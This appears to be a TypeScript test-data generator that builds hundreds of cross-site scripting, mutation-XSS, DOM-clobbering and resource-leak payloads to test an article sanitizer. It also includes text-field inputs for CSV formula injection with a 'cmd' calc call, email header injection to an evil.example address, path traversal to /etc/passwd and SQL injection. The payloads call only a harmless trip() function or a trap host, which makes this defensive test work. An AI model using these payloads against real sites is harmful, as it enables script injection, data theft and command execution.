// Attacks by family, after what is known of them (OWASP's filter evasion, the families of DOMPurify's tests, mutation by parsing
// twice), made here from their parts: what runs × where it stands × how it is written. Each calls `trip()` or asks the host TRAP.

export interface AttackCases {
  /** HTML of articles, by family */
  html: Record<string, string[]>
  /** words for every field that holds none but words */
  texts: string[]
}

const J = 'trip(1)'
const IMG = `<img src=x onerror=${J}>`
const SCRIPT = `<script>${J}</script>`

const all = <One, Other, Made>(ones: readonly One[], others: readonly Other[], make: (one: One, other: Other) => Made): Made[] =>
  ones.flatMap((one) => others.map((other) => make(one, other)))
const words = (text: string) => text.trim().split(/\s+/)

export function attackCases(trap: string): AttackCases {
  const html = { ...familiesOf(trap), texts: TEXTS }
  return { html, texts: [...TEXTS, ...all(ENDS, [SCRIPT, IMG, `<svg onload=${J}>`], (end, run) => end + run)] }
}

function familiesOf(trap: string): Record<string, string[]> {
  return {
    scripts: SCRIPTS,
    handlers: handlers(),
    addresses: addresses(),
    readTwice: readTwice(),
    outside: outside(trap),
    names: names(),
  }
}

const SCRIPTS = [
  ...[SCRIPT, `<SCRIPT SRC=//TRAP/x.js></SCRIPT>`, `<script/x>${J}</script >`, `<scr<script>ipt>${J}</scr</script>ipt>`],
  ...[`<script>${J}`, `<script\n>${J}</script\n>`, `<<script>${J}//<</script>`, `<script type=module>${J}</script>`],
  ...[`<svg><script>${J}</script></svg>`, `<svg><script href="data:,${J}"/></svg>`, `<math><script>${J}</script></math>`],
  ...[`<IMG """>${SCRIPT}">`, `<img src="x" ONERROR\n=${J}>`, `<img/src=x/onerror=${J}>`, `<img src=x onerror\x0b=${J}>`],
  ...[
    `<script\x00>${J}</script>`,
    `<s\x00cript>${J}</script>`,
    `<\x00img src=x onerror=${J}>`,
    `\ufeff${SCRIPT}`,
    `<ſcript>${J}</ſcript>`,
  ],
  ...[`<template shadowrootmode=open>${SCRIPT}</template>`, `<object type=text/html data="data:text/html,${SCRIPT}"></object>`],
  ...[`<iframe srcdoc="${SCRIPT}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${J}&lt;/script&gt;"></iframe>`],
  ...[
    `<meta http-equiv=refresh content="0;url=javascript:${J}">`,
    `<meta http-equiv="Content-Type" content="text/html; charset=utf-7">`,
  ],
  ...[`<base href="javascript:${J}//">`, `<link rel=import href="data:text/html,${SCRIPT}">`, `<xml id=x><x>${IMG}</x></xml>`],
  ...[
    `<style>*{background:url("javascript:${J}")}</style>`,
    `<p style="width:expression(${J})">文</p>`,
    `<p style="behavior:url(#x)">`,
  ],
  ...[`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${J}>文</p>`],
  ...[
    `<!--[if IE]>${SCRIPT}<![endif]-->`,
    `<!--><!---> ${IMG} -->`,
    `<![CDATA[${IMG}]]>`,
    `<?xml-stylesheet href="javascript:${J}"?>${IMG}`,
  ],
  ...[
    `</p title="--!>${IMG}">`,
    `<!-- --!>${IMG} -->`,
    `<!--${IMG}--!>${IMG}`,
    `<% ${IMG} %>`,
    `<!doctype x [<!ENTITY a "${SCRIPT}">]>&a;`,
  ],
  ...[
    `${'<div>'.repeat(10_000)}${IMG}`,
    `${'<b><i>'.repeat(3_000)}${SCRIPT}`,
    `${'<table><td>'.repeat(500)}${IMG}`,
    `<a ${'x '.repeat(5_000)}onclick=${J}>`,
  ],
  ...[`\u202e${IMG}\u202c`, `\u2028${SCRIPT}\u2029`, `<img src=x onerror=\u202e${J}>`],
]

function handlers(): string[] {
  const events =
    words(`onerror onload onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerrawupdate onanimationstart
    onanimationend ontransitionend ontoggle onbeforetoggle onscroll onscrollend onwheel onbegin onend onrepeat onstart onfinish onbounce
    onpageshow onhashchange onresize onsubmit oninvalid oninput onbeforeinput onselectionchange oncopy onpaste ondragstart oncanplay
    onloadstart ontimeupdate onsecuritypolicyviolation oncontentvisibilityautostatechange onslotchange onunhandledrejection`)
  const elements = [
    ...[
      'img src=x',
      'img src=/icon.svg',
      'svg',
      'body',
      'details open',
      'input autofocus',
      'select autofocus',
      'textarea autofocus',
    ],
    ...[
      'a href=# tabindex=1 autofocus',
      'p contenteditable autofocus',
      'video src=x',
      'audio src=x',
      'iframe src=about:blank',
      'object data=x',
    ],
    ...[
      'embed src=x',
      'marquee',
      'table',
      'td',
      'form',
      'button autofocus',
      'style',
      'link rel=stylesheet href=/icon.svg',
      'script src=/x',
    ],
    ...[
      'math',
      'svg><animate attributeName=x dur=1s',
      'svg><set attributeName=x',
      'svg><image href=x',
      'xss tabindex=1 autofocus',
      'dialog open',
    ],
    ...[
      'blockquote',
      'time',
      'abbr title=x',
      'ol',
      'figure',
      'q',
      'div style=content-visibility:auto',
      'slot',
      'frameset',
      'picture><source',
    ],
  ]
  const every = all(elements, events, (element, event) => `<${element} ${event}=${J}>文`)
  // How the attribute is written is tried on a few of them.
  const written = all(
    every.filter((_, at) => at % 97 === 0),
    ['"', "'", '`'],
    (made, quote) => made.replace(J, `${quote}${J}${quote}`),
  )
  const split = all(
    every.filter((_, at) => at % 89 === 0),
    ['/', '\f', '\r\n', '\t/', '=""', '"x"'],
    (made, gap) => made.replace(' on', `${gap}on`),
  )
  return [...every, ...written, ...split]
}

function addresses(): string[] {
  const script = [
    ...[
      `javascript:${J}`,
      `JaVaScRiPt:${J}`,
      `java\tscript:${J}`,
      `java\nscript:${J}`,
      `java&#10;script:${J}`,
      `java&Tab;script:${J}`,
    ],
    ...[
      `java&NewLine;script:${J}`,
      `javascript&colon;${J}`,
      `javascript&#58${J}`,
      `javascript&#x0003A;${J}`,
      `&#106;avascript:${J}`,
    ],
    ...[
      `&#0000106&#0000097vascript:${J}`,
      ` javascript:${J}`,
      `&#1;javascript:${J}`,
      `\x00javascript:${J}`,
      `\u00a0javascript:${J}`,
    ],
    ...[
      `\u2028javascript:${J}`,
      `javascript://%0a${J}`,
      `javascript:/*--></title></style>*/${J}`,
      `javascript\x00:${J}`,
      `ｊavascript:${J}`,
    ],
    ...[
      `java\u200bscript:${J}`,
      `javascript:\`\${${J}}\``,
      `//javascript:${J}`,
      `/\\javascript:${J}`,
      `x:javascript:${J}`,
      `feed:javascript:${J}`,
    ],
    ...[
      `view-source:javascript:${J}`,
      `jar:javascript:${J}!/`,
      `vbscript:${J}`,
      `livescript:${J}`,
      `mocha:${J}`,
      `blob:javascript:${J}`,
    ],
    ...[
      `data:text/html,${SCRIPT.replaceAll('<', '%3C')}`,
      `data:text/html;base64,${btoa(SCRIPT)}`,
      `DATA:image/svg+xml,%3Csvg onload=${J}%3E`,
    ],
    ...[
      `data:,${J}`,
      `data:text/javascript,${J}`,
      `filesystem:http://x/`,
      `file:///etc/passwd`,
      `about:blank`,
      `chrome://crash`,
      `intent://x`,
    ],
  ]
  const places = [
    ...[
      '<a href="@">文</a>',
      '<a href=@>文</a>',
      '<img src="@">',
      '<img srcset="@ 1x, @ 2x">',
      '<img dynsrc="@" lowsrc="@">',
      '<q cite="@">文</q>',
    ],
    ...[
      '<blockquote cite="@">文</blockquote>',
      '<iframe src="@"></iframe>',
      '<embed src="@">',
      '<object data="@"></object>',
      '<base href="@">',
    ],
    ...[
      '<form action="@"><button>文</button></form>',
      '<button formaction="@">文</button>',
      '<input type=image src="@" formaction="@">',
    ],
    ...[
      '<area href="@">',
      '<link rel=stylesheet href="@">',
      '<body background="@">',
      '<table background="@"><td background="@">文</table>',
    ],
    ...[
      '<video poster="@" src="@"></video>',
      '<audio src="@"></audio>',
      '<track src="@">',
      '<frameset><frame src="@"></frameset>',
    ],
    ...[
      '<svg><a xlink:href="@"><text y=9>文</text></a></svg>',
      '<svg><use href="@"></use></svg>',
      '<svg><image xlink:href="@"/></svg>',
    ],
    ...[
      '<svg><a><animate attributeName=href values="@"/><text y=9>文</text></a></svg>',
      '<math href="@">文</math>',
      '<math><mi xlink:href="@">文</mi></math>',
    ],
    ...[
      '<meta http-equiv=refresh content="0;url=@">',
      '<a href="/x" ping="@">文</a>',
      '<p style="background:url(@)">文</p>',
      '<isindex action="@">',
    ],
    ...[
      '<applet code="@"></applet>',
      '<a id="fn-1" href="@">文</a>',
      '<figure data-picture="0"><img src="@"></figure>',
      '<a\nhref\n=\n"@"\n>文</a>',
    ],
    ...['[文](@)', '![文](@)', '<@>', '[文]: @\n\n[文]', '<a href="@" target=opener rel=opener download>文</a>'],
  ]
  return all(places, script, (place, address) => place.replaceAll('@', address))
}

/** What becomes markup when what a parser made of it is written and read again: raw texts inside foreign namespaces and tables. */
function readTwice(): string[] {
  const around = [
    ...[
      '',
      '<svg>',
      '<math>',
      '<svg><desc>',
      '<svg><title>',
      '<svg><foreignObject>',
      '<math><mtext>',
      '<math><mi>',
      '<math><ms>',
      '<svg></p>',
    ],
    ...[
      '<math><annotation-xml encoding="text/html">',
      '<math><annotation-xml encoding="application/xhtml+xml">',
      '<math><annotation-xml><svg>',
    ],
    ...[
      '<math><mtext><table><mglyph>',
      '<form><math><mtext></form><form><mglyph>',
      '<math><mtext><mglyph>',
      '<select>',
      '<select><template>',
    ],
    ...[
      '<table>',
      '<table><tr><td>',
      '<table><caption>',
      '<table><colgroup>',
      '<template>',
      '<noscript>',
      '<a><table><tr><td>',
      '<p><svg></p>',
    ],
    ...[
      '<svg><style>',
      '<dl><dd><svg>',
      '<ruby><rt><math>',
      '<pre>\n',
      '<table><td><svg><desc><td></svg>',
      '<frameset>',
      '<button><svg>',
    ],
  ]
  const raw = words(
    'style title textarea xmp noembed noframes iframe noscript plaintext script listing template option select math svg',
  )
  const inside = [
    (name: string) => `<${name}><a title="</${name}>${IMG}">文</a></${name}>`,
    (name: string) => `<${name}><!--</${name}>${IMG}--></${name}>`,
    (name: string) => `<${name}>&lt;/${name}&gt;&lt;img src=x onerror=${J}&gt;</${name}>`,
    (name: string) => `<${name}><p id="</${name}><img src=x onerror='${J}'>"></${name}>${IMG}`,
  ]
  return all(
    around,
    all(raw, inside, (name, make) => make(name)),
    (outer, inner) => outer + inner,
  )
}

/** What asks somebody else's server, or lets the rest of the page leak to it. */
function outside(trap: string): string[] {
  const plain = [
    ...[
      '<img src="@">',
      "<img src='@?",
      '<a href="@?',
      "<a href='@' ping='@'>文</a>",
      '<img srcset="@ 1x">',
      '<video poster="@">',
      '<audio src="@" autoplay>',
    ],
    ...[
      '<video><source src="@"></video>',
      '<picture><source srcset="@"><img src="@"></picture>',
      '<iframe src="@"></iframe>',
      '<embed src="@">',
    ],
    ...[
      '<object data="@"></object>',
      '<input type=image src="@">',
      '<body background="@">',
      '<table background="@">',
      '<td background="@">',
      '<track src="@">',
    ],
    ...[
      '<link rel=stylesheet href="@">',
      '<link rel=prefetch href="@">',
      '<link rel=preload as=image href="@">',
      '<link rel=dns-prefetch href="@">',
    ],
    ...[
      '<link rel=icon href="@">',
      '<link rel=manifest href="@">',
      '<style>@import url("@");</style>',
      '<style>body{background:url(@)}</style>',
    ],
    ...[
      '<style>input[value^=a]{background:url(@)}</style>',
      '<p style="background:url(@)">',
      '<p style="list-style:url(@)">',
      '<p style="cursor:url(@),auto">',
    ],
    ...[
      '<svg><image href="@"/></svg>',
      '<svg><use href="@#x"/></svg>',
      '<svg><feImage href="@"/></svg>',
      '<svg><style>@import "@"</style></svg>',
    ],
    ...[
      '<script src="@"></script>',
      '<base href="@">',
      '<base target="',
      '<form action="@"><input name=a>',
      '<button formaction="@">',
      '<portal src="@">',
    ],
    ...[
      '<meta http-equiv=refresh content="0;url=@">',
      '<applet archive="@">',
      '<bgsound src="@">',
      '<layer src="@">',
      '<frame src="@">',
      '<math><mglyph src="@"/></math>',
    ],
    ...[
      '<img src="@" loading=eager crossorigin>',
      '<xml src="@">',
      '<iframe name="',
      '<textarea>',
      '<option>',
      "<noscript><img src='@'>",
      '<div data-src="@">',
    ],
  ]
  return [
    ...plain.map((one) => one.replaceAll('@', `${trap}/a.png`)),
    ...plain.map((one) => one.replaceAll('@', trap.replace('http:', ''))),
  ]
}

/** Names by which an element stands in the place of something the page's scripts use. */
function names(): string[] {
  const taken =
    words(`document location body head cookie forms images links getElementById querySelector createElement addEventListener
    currentScript defaultView parentNode childNodes attributes innerHTML textContent submit action method nodeName firstChild ownerDocument
    __proto__ constructor prototype toString valueOf hasOwnProperty customElements trustedTypes navigator history self top parent opener
    main fn-ref-1 next wx search-form read-aloud settings`)
  const places = [
    ...[
      '<a id=@ name=@ href=/x>文</a>',
      '<img name=@ id=@ src=/icon.svg>',
      '<form name=@><input name=@ id=@></form>',
      '<iframe name=@></iframe>',
    ],
    ...[
      '<p id="@" class="@ article masthead">文</p>',
      '<a id=@><a id=@ name=x href=x>',
      '<object id=@ name=@></object>',
      '<details id=@ open>文</details>',
    ],
    ...[
      '<p is="@" slot="@" part="@" data-@="1" aria-@="1">文</p>',
      '<read-aloud @=x>文</read-aloud>',
      '<share-tools id=@>文</share-tools>',
    ],
  ]
  return all(places, taken, (place, name) => place.replaceAll('@', name))
}

const ENDS =
  words(`"> '> \`> </title> </script> </textarea> </style> </noscript> --> ]]> </a> </h1> "/> </option> </article> </mark> <!-- &quot;> %22%3E
  \\"> \\u0022> </p></div> <![CDATA[ }} *//* </xmp> </iframe>`)

/** Words that are markup, script, a formula, a header or an address wherever they are not taken as words. */
const TEXTS = [
  ...[
    SCRIPT,
    IMG,
    `"><svg/onload=${J}>`,
    `' onmouseover=${J} x='`,
    `" autofocus onfocus=${J} x="`,
    `\`onerror=${J}`,
    `javascript:${J}`,
    `</title>${SCRIPT}`,
  ],
  ...[
    `</script>${SCRIPT}`,
    `<!--<script>${J}`,
    `&lt;img src=x onerror=${J}&gt;`,
    `&amp;lt;script&amp;gt;${J}`,
    `%3Cscript%3E${J}`,
    `+ADw-script+AD4-${J}+ADw-/script+AD4-`,
  ],
  ...[
    `\\u003cscript\\u003e${J}`,
    `＜script＞${J}＜/script＞`,
    `{{constructor.constructor('${J}')()}}`,
    `\${${J}}`,
    `<%= ${J} %>`,
    `[[${J}]]`,
    `{% raw %}${IMG}`,
  ],
  ...[
    `#{${J}}`,
    `\u2028${J}\u2029`,
    `\u202e${IMG}`,
    `a\u0000<b>`,
    `]]>${IMG}`,
    `<![CDATA[${IMG}]]>`,
    `=HYPERLINK("http://x","y")`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
  ],
  ...[
    `+1+1`,
    `-2+3`,
    `\t=1+1`,
    `文\r\nBcc: x@evil.example`,
    `文\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    `../../etc/passwd`,
    `..\\..\\x`,
    `CON`,
    `a/b?c#d`,
  ],
  ...[
    `'; DROP TABLE "Article"; --`,
    `\\'; ${J}; //`,
    `<mark>${IMG}</mark>`,
    `__proto__`,
    `constructor`,
    `<a href=javascript:${J}>文</a>`,
    `on error resume next`,
  ],
]
